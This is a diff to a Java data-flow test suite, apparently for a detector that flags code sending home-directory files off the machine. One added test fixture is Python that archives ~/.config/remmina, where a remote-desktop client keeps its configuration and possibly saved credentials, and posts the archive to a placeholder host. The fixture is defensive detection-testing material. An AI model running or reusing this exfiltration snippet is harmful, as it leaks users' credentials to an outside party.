@@ -706,6 +706,15 @@ class DataFlowTest {
               reached(
                   "sends-home-file",
                   lines(
+                      "import os, tarfile, requests",
+                      "with tarfile.TarFile(bundle, 'w') as tf:",
+                      "    tf.add(os.path.expanduser('~/.config/remmina'))",
+                      "requests.post('https://s.example/u', data=open(bundle, 'rb'))")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
                       "import glob, tarfile, requests",
                       "with tarfile.TarFile(bundle, 'w') as tf:",
                       "    for found in glob.glob('logs/*.log'):",
